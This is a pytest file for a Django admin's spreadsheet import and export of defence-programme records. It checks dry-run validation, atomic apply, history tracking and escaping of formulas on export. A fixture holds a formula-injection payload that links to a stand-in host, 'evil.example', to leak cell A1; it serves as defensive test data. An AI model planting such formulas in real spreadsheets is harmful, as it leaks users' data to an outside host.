"""Spreadsheet import and export through the admin: a dry-run preview that lists bad rows and
writes nothing, an atomic apply that leaves history, and an export of the filtered changelist
that is safe to open in a spreadsheet."""

import csv
import datetime
import html
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from programs.models import Contribution, Participation, TechTransferMilestone, WorkshareAllocation
from tests import factories
from tests.admin_helpers import admin_url, https_client, programme_with_partners

pytestmark = pytest.mark.django_db

CSV_FORMAT, XLSX_FORMAT = "0", "1"
CONTRIBUTION_HEADER = "programme,nation,period_start,period_end,amount,source,confidence\n"


@pytest.fixture
def client(analyst):
    return https_client(analyst)


@pytest.fixture
def world():
    programme, orgs = programme_with_partners("DEMO", ("AAA", "BBB"))
    factories.NationFactory(code="CCC", name="Nation CCC")  # exists, takes no part
    return programme, orgs


def csv_file(text: str, name: str = "rows.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, text.encode("utf-8"), content_type="text/csv")


def xlsx_file(rows: list[list], name: str = "rows.xlsx") -> SimpleUploadedFile:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def dry_run(client, model, upload, file_format: str = CSV_FORMAT):
    return client.post(
        admin_url(model, "import"),
        {"resource": "0", "format": file_format, "import_file": upload},
    )


def confirm(client, model, preview):
    form = preview.context["confirm_form"]
    assert form is not None, "the preview offered no confirmation"
    return client.post(admin_url(model, "process_import"), form.initial, follow=True)


def history_count(model) -> int:
    return model.history.model.objects.count()


def test_dry_run_lists_each_bad_row_with_its_field_errors_and_writes_nothing(client, world):
    upload = csv_file(
        CONTRIBUTION_HEADER
        + "DEMO,AAA,2024-01-01,,100,Budget 2024,reported\n"
        + "DEMO,ZZZ,2024-01-01,,50,,\n"
        + "DEMO,BBB,2024-01-01,2023-01-01,-5,,\n"
        + "DEMO,CCC,2024-01-01,,10,,estimated\n"
        + "NOPE,AAA,2024-01-01,,10,,\n"
    )

    response = dry_run(client, Contribution, upload)

    assert response.status_code == 200
    result = response.context["result"]
    assert [row.number for row in result.invalid_rows] == [2, 3, 4, 5]
    errors = {row.number: row.field_specific_errors for row in result.invalid_rows}
    assert errors[2]["nation"] == ["No nation with code 'ZZZ'."]
    assert errors[3]["period_end"] == ["period_end must not be before period_start."]
    assert errors[4]["nation"] == ["This nation does not take part in the programme."]
    assert errors[5]["programme"] == ["No programme with code 'NOPE'."]
    page = html.unescape(response.text)
    assert "Some rows failed to validate" in page
    assert "No nation with code 'ZZZ'." in page
    assert "This nation does not take part in the programme." in page
    assert response.context.get("confirm_form") is None
    assert not Contribution.objects.exists()
    assert history_count(Contribution) == 0


def test_a_negative_amount_is_reported_on_its_row(client, world):
    upload = csv_file(CONTRIBUTION_HEADER + "DEMO,BBB,2024-01-01,,-5,,\n")

    result = dry_run(client, Contribution, upload).context["result"]

    [row] = result.invalid_rows
    assert row.number == 1
    assert "amount" in row.field_specific_errors
    assert not Contribution.objects.exists()


def test_a_good_csv_file_imports_after_the_preview_and_leaves_history(client, analyst, world):
    upload = csv_file(
        CONTRIBUTION_HEADER
        + "DEMO,AAA,2024-01-01,2024-12-31,100.50,Budget 2024,reported\n"
        + "DEMO,BBB,2024-01-01,,80,,\n"
    )

    preview = dry_run(client, Contribution, upload)
    assert not Contribution.objects.exists()  # the preview wrote nothing
    applied = confirm(client, Contribution, preview)

    assert "Import finished: 2 new" in applied.text
    aaa = Contribution.objects.get(nation__code="AAA")
    assert (aaa.amount, aaa.period_end, aaa.confidence) == (
        Decimal("100.50"),
        datetime.date(2024, 12, 31),
        "reported",
    )
    # SPEC §4's default confidence: illustrative when no source is given.
    assert Contribution.objects.get(nation__code="BBB").confidence == "illustrative"
    records = Contribution.history.all()
    assert records.count() == 2
    assert {record.history_user for record in records} == {analyst}


def test_importing_the_same_file_twice_changes_nothing_the_second_time(client, world):
    text = CONTRIBUTION_HEADER + "DEMO,AAA,2024-01-01,,100,,\n"
    confirm(client, Contribution, dry_run(client, Contribution, csv_file(text)))

    again = confirm(client, Contribution, dry_run(client, Contribution, csv_file(text)))

    assert "0 new, 0 updated, 0 deleted and 1 skipped" in again.text
    assert Contribution.objects.count() == 1
    assert history_count(Contribution) == 1


def test_a_good_xlsx_file_of_milestones_imports_and_leaves_history(client, analyst, world):
    header = [
        "programme",
        "title",
        "technology_area",
        "provider",
        "recipient",
        "planned_on",
        "achieved_on",
        "status",
        "access_level",
        "export_control",
        "weight",
        "source",
        "confidence",
    ]
    upload = xlsx_file(
        [
            header,
            [
                "DEMO",
                "Radar",
                "sensors",
                "AAA Aero",
                "BBB Aero",
                datetime.date(2025, 1, 31),
                None,
                "delayed",
                "licensed",
                "ITAR",
                3,
                None,
                None,
            ],
            [
                "DEMO",
                "Engine",
                "propulsion",
                "BBB Aero",
                "AAA Aero",
                datetime.date(2024, 6, 1),
                datetime.date(2024, 7, 1),
                "achieved",
                "full",
                None,
                2,
                "MoD",
                "reported",
            ],
        ]
    )

    preview = dry_run(client, TechTransferMilestone, upload, XLSX_FORMAT)
    assert not preview.context["result"].has_validation_errors()
    confirm(client, TechTransferMilestone, preview)

    radar = TechTransferMilestone.objects.get(title="Radar")
    assert (radar.provider.name, radar.recipient.name, radar.weight) == ("AAA Aero", "BBB Aero", 3)
    assert radar.planned_on == datetime.date(2025, 1, 31)
    engine = TechTransferMilestone.objects.get(title="Engine")
    assert (engine.status, engine.achieved_on) == ("achieved", datetime.date(2024, 7, 1))
    assert {r.history_user for r in TechTransferMilestone.history.all()} == {analyst}
    assert TechTransferMilestone.history.count() == 2


def test_workshare_rows_find_their_work_package_within_the_programme(client, analyst, world):
    programme, _ = world
    factories.WorkPackageFactory(programme=programme, code="AIR")
    factories.WorkPackageFactory(code="AIR")  # same code, another programme
    upload = xlsx_file(
        [
            [
                "programme",
                "work_package",
                "organisation",
                "period_start",
                "period_end",
                "amount",
                "source",
                "confidence",
            ],
            ["DEMO", "AIR", "AAA Aero", datetime.date(2024, 1, 1), None, 80, None, None],
            ["DEMO", "ENG", "BBB Aero", datetime.date(2024, 1, 1), None, 20, None, None],
        ]
    )

    preview = dry_run(client, WorkshareAllocation, upload, XLSX_FORMAT)

    [bad] = preview.context["result"].invalid_rows
    assert bad.number == 2
    assert bad.field_specific_errors["work_package"] == [
        "No work package 'ENG' in programme 'DEMO'."
    ]
    assert not WorkshareAllocation.objects.exists()

    good = xlsx_file(
        [
            ["programme", "work_package", "organisation", "period_start", "amount"],
            ["DEMO", "AIR", "AAA Aero", datetime.date(2024, 1, 1), 80],
        ]
    )
    confirm(client, WorkshareAllocation, dry_run(client, WorkshareAllocation, good, XLSX_FORMAT))
    allocation = WorkshareAllocation.objects.get()
    assert allocation.work_package.programme == programme
    assert allocation.history.get().history_user == analyst


def test_a_file_with_one_bad_row_among_good_ones_writes_nothing_on_apply(client, world):
    upload = csv_file(
        CONTRIBUTION_HEADER
        + "DEMO,AAA,2024-01-01,,100,,\n"
        + "DEMO,AAA,2025-01-01,,110,,\n"
        + "DEMO,BBB,2024-01-01,,80,,\n"
    )
    preview = dry_run(client, Contribution, upload)
    # Between preview and apply, BBB leaves the programme: its row is now invalid.
    Participation.objects.filter(nation__code="BBB").delete()

    applied = client.post(
        admin_url(Contribution, "process_import"), preview.context["confirm_form"].initial
    )

    assert applied.status_code == 400
    page = html.unescape(applied.text)
    assert "Nothing was imported" in page
    assert "This nation does not take part in the programme." in page
    assert [row.number for row in applied.context["result"].invalid_rows] == [3]
    assert not Contribution.objects.exists()
    assert history_count(Contribution) == 0


def test_only_analysts_see_the_import(analyst_client, client, viewer):
    assert client.get(admin_url(Contribution, "import")).status_code == 200
    assert https_client(viewer).get(admin_url(Contribution, "import")).status_code == 403


def export(client, model, query: str, file_format: str):
    url = admin_url(model, "export") + query
    page = client.get(url)
    assert page.status_code == 200
    form = page.context["form"]
    data = {"format": file_format, "resource": "0"}
    data.update(
        {
            name: "on"
            for name, field in form.fields.items()
            if getattr(field, "is_selectable_field", False)
        }
    )
    return client.post(url, data)


@pytest.fixture
def two_programmes(world):
    programme, orgs = world
    other, other_orgs = programme_with_partners("OTHER", ("DDD", "EEE"))
    factories.TechTransferMilestoneFactory(
        programme=programme,
        provider=orgs["AAA"],
        recipient=orgs["BBB"],
        title='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        export_control="@SUM(1+1)",
        weight=4,
    )
    factories.TechTransferMilestoneFactory(
        programme=other, provider=other_orgs["DDD"], recipient=other_orgs["EEE"], title="Elsewhere"
    )
    return programme


def test_csv_export_respects_the_changelist_filter_and_escapes_formulae(viewer, two_programmes):
    response = export(
        https_client(viewer),
        TechTransferMilestone,
        f"?programme__id__exact={two_programmes.pk}",
        CSV_FORMAT,
    )

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    assert [row["programme"] for row in rows] == ["DEMO"]
    assert rows[0]["title"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert rows[0]["export_control"] == "'@SUM(1+1)"
    assert (rows[0]["provider"], rows[0]["recipient"], rows[0]["weight"]) == (
        "AAA Aero",
        "BBB Aero",
        "4",
    )


def test_xlsx_export_escapes_formulae_and_keeps_numbers_as_numbers(client, two_programmes):
    response = export(
        client, TechTransferMilestone, f"?programme__id__exact={two_programmes.pk}", XLSX_FORMAT
    )

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    [row] = rows
    record = dict(zip(header, row, strict=True))
    assert record["title"].startswith("'=HYPERLINK(")
    assert record["weight"] == 4


def test_export_of_a_model_without_an_import_uses_natural_keys(client, world):
    programme, _ = world

    response = export(client, Participation, f"?programme__id__exact={programme.pk}", CSV_FORMAT)

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    assert sorted((row["programme"], row["nation"]) for row in rows) == [
        ("DEMO", "AAA"),
        ("DEMO", "BBB"),
    ]


@pytest.mark.parametrize(
    ("title", "cell"),
    [("-1e3", "'-1e3"), ("-Infinity", "'-Infinity"), ("-12.5", "-12.5"), ("+3", "+3")],
)
def test_the_admin_and_the_api_export_a_cell_alike(client, world, title, cell):
    from programs.api.tokens import issue_token
    from tests.api.conftest import token_client

    programme, orgs = world
    factories.TechTransferMilestoneFactory(
        programme=programme, provider=orgs["AAA"], recipient=orgs["BBB"], title=title
    )
    admin_rows = csv.DictReader(
        io.StringIO(export(client, TechTransferMilestone, "", CSV_FORMAT).content.decode())
    )
    api = token_client(issue_token(factories.UserFactory(groups=["viewer"]), "export")[1])
    api_response = api.get("/api/v1/tech-transfers/", {"format": "csv"})
    api_rows = csv.DictReader(
        io.StringIO(b"".join(api_response.streaming_content).decode("utf-8-sig"))
    )
    assert [row["title"] for row in admin_rows] == [cell]
    assert [row["title"] for row in api_rows] == [cell]
